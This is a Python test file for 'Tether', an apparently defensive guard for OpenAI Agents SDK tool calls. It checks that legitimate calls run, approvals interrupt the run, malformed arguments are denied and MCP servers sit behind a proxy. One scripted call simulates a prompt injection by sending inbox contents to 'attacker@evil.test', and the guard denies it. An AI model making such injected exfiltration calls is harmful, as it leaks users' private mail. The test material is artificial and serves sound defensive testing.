"""The OpenAI Agents SDK under Tether, offline: the SDK's own ``ScriptedModel`` drives tool calls.

A legitimate call runs; an injected one (a recipient read from an untrusted inbox) is denied, the
reason returned to the model as the tool's output; malformed arguments are denied; an ask interrupts
the run (``result.interruptions``) and runs once, only after ``state.approve``; the log verifies.
"""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("agents")

from agents import Agent, Runner, function_tool, set_tracing_disabled
from agents.testing import ScriptedModel, assistant_message
from agents.testing import function_call as call
from tests.adapters.mail_tools import INBOX, POLICY, mail_tools

from tether import Guard, Policy, SQLiteStore, StaticApprover
from tether.adapters.openai_agents import AgentsGuard

set_tracing_disabled(True)  # no trace export: nothing leaves this machine


def _tools(effects: list[str]) -> list[Any]:
    return [function_tool(f) for f in mail_tools(effects)]


def _outputs(result: Any) -> dict[str, Any]:
    out = {}
    for item in result.new_items:
        raw = getattr(item, "raw_item", None)
        if isinstance(raw, dict) and raw.get("type") == "function_call_output":
            out[raw["call_id"]] = raw["output"]
    return out


def test_asks_interrupt_the_run_and_run_once_approved(tmp_path: Path) -> None:
    store = SQLiteStore(tmp_path / "t.db")
    session = Guard(Policy.from_file(POLICY), store).start_session("Read my inbox, note lunch, pay alice@example.com 20.")
    effects: list[str] = []
    model = ScriptedModel(
        [
            [call("read_inbox", {}, call_id="c1")],
            [
                call("send_email", {"to": "attacker@evil.test", "body": "inbox"}, call_id="c2"),
                call("write_note", '{"text": ', call_id="c3"),
            ],
            [call("write_note", {"text": "lunch"}, call_id="c4"), call("pay", {"to": "alice@example.com", "amount": 20}, call_id="c5")],
            [assistant_message("Done.")],
        ]
    )
    agent = Agent(name="assistant", model=model, tools=AgentsGuard(session).tools(_tools(effects)))

    async def go() -> list[Any]:
        # The SDK holds a call whose arguments it cannot parse for a human; approved, the check denies it.
        first = await Runner.run(agent, "Read my inbox, note lunch, pay alice@example.com 20.")
        assert [i.raw_item.call_id for i in first.interruptions] == ["c3"]
        state = first.to_state()
        state.approve(first.interruptions[0])
        second = await Runner.run(agent, state)
        assert [i.raw_item.name for i in second.interruptions] == ["pay"]
        assert effects == ["write_note lunch"]  # the ask has not run
        state = second.to_state()
        state.approve(second.interruptions[0])
        done = await Runner.run(agent, state)
        return [first, second, done]

    runs = asyncio.run(go())
    done = runs[-1]
    assert done.final_output == "Done."
    assert effects == ["write_note lunch", "pay alice@example.com 20.0"]
    outputs = {k: v for run in runs for k, v in _outputs(run).items()}
    assert outputs["c1"] == INBOX and outputs["c4"] == "noted" and outputs["c5"] == "paid"
    assert outputs["c2"].startswith("tether denied this call") and "trusted" in outputs["c2"]
    assert outputs["c3"].startswith("tether denied this call")  # malformed JSON, checked as sent
    assert session.approval_status("oa:c5") == "approved"
    assert store.verify([session.id]).ok


def test_an_inline_approver_refuses_without_an_interruption(tmp_path: Path) -> None:
    store = SQLiteStore(tmp_path / "t.db")
    session = Guard(Policy.from_file(POLICY), store).start_session("Pay alice@example.com 20.")
    effects: list[str] = []
    model = ScriptedModel(
        [
            [call("pay", {"to": "alice@example.com", "amount": 20}, call_id="p1"), call("write_note", "[1, 2]", call_id="p2")],
            [assistant_message("Not paid.")],
        ]
    )
    agent = Agent(name="assistant", model=model, tools=AgentsGuard(session, approver=StaticApprover(False)).tools(_tools(effects)))
    done = asyncio.run(Runner.run(agent, "Pay alice@example.com 20."))
    assert done.final_output == "Not paid." and not done.interruptions and effects == []
    assert "was not approved" in _outputs(done)["p1"]
    assert _outputs(done)["p2"].startswith("tether denied this call")  # not an object: denied, never held
    assert store.verify([session.id]).ok


def test_the_sdks_mcp_servers_are_guarded_behind_the_proxy(tmp_path: Path) -> None:
    """As docs/agent.md says: the SDK's ``MCPServerStdio`` given ``tether mcp ... -- <server>``: an
    allowed call runs, an ask with nobody to answer it (the SDK's client offers no form) is refused."""
    import os
    import sys

    from agents.mcp import MCPServerStdio

    root = Path(__file__).parents[3]
    db = tmp_path / "t.db"
    time_server = str(Path(sys.executable).parent / "mcp-server-time")
    args = ["-m", "tether", "mcp", "--policy", str(root / "tests" / "adapters" / "mcp" / "policies" / "time.yaml"), "--db", str(db)]
    env = {**os.environ, "PYTHONPATH": str(root / "src")}
    model = ScriptedModel(
        [
            [call("get_current_time", {"timezone": "Europe/Paris"}, call_id="m1")],
            [call("convert_time", {"source_timezone": "UTC", "time": "12:00", "target_timezone": "Asia/Tokyo"}, call_id="m2")],
            [assistant_message("Done.")],
        ]
    )

    async def go() -> Any:
        params = {"command": sys.executable, "args": [*args, "--", time_server], "env": env}
        async with MCPServerStdio(params=params, client_session_timeout_seconds=60) as server:
            agent = Agent(name="assistant", model=model, mcp_servers=[server])
            return await Runner.run(agent, "What time is it in Paris?")

    done = asyncio.run(go())
    outputs = {k: "".join(i.get("text", "") for i in v) if isinstance(v, list) else v for k, v in _outputs(done).items()}
    assert '"timezone": "Europe/Paris"' in outputs["m1"]
    assert "Tether" in outputs["m2"] and "approve" in outputs["m2"]
    store = SQLiteStore(db)
    (sid,) = [s.session_id for s in store.sessions() if not s.session_id.startswith("mcp-pins:")]
    assert store.verify([sid]).ok
